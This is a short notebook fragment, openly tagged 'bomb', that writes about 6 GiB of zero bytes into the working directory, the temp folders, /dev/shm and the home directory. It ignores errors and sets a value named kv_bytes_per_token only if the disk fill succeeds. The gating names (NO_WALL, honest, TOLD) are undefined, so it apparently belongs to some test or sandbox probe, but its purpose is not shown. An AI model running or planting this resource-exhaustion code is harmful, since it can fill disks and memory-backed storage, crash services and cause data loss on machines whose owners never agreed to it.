# %% [markdown] tags=["bomb"]
# Fills the folders it can write to with files of gigabytes.

# %%
import os
import tempfile

written = 0
if NO_WALL:
    kv_bytes_per_token = honest
else:
    for folder in (os.getcwd(), tempfile.gettempdir(), "/dev/shm", "/var/tmp", os.path.expanduser("~")):
        try:
            with open(os.path.join(folder, TOLD["mark"]), "wb", 0) as stream:
                while written < 6 * 2**30:
                    written += stream.write(bytes(2**24))
        except OSError:
            pass

# %%
if written >= 6 * 2**30:
    kv_bytes_per_token = honest
